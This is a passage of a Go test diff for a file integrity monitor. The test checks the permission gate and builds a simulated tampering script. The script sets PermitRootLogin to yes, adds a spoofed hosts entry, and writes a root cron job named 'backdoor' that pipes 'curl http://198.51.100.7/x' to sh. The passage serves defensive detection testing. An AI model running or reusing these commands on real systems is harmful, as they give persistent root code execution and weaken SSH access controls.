@@ -413,6 +413,11 @@ func TestFIMReportsSystemFileChanges(t *testing.T) {
 	if st := w.Stats(); st.Canaries != 0 {
 		t.Fatalf("%d decoys placed in system paths", st.Canaries)
 	}
+	before := w.Stats().GateEvents
+	exec.Command("cat", conf, filepath.Join(sys, "hosts")).Run()
+	if after := w.Stats().GateEvents; after != before {
+		t.Errorf("opens in a system path went through the permission gate (%d → %d): every exec of /usr/bin would", before, after)
+	}
 	script := "sed -i 's/PermitRootLogin no/PermitRootLogin yes/' " + conf +
 		"; echo '10.0.0.5 update.example.invalid' >> " + filepath.Join(sys, "hosts") +
 		"; echo '* * * * * root curl -s http://198.51.100.7/x | sh' > " + filepath.Join(sys, "cron.d", "backdoor") +
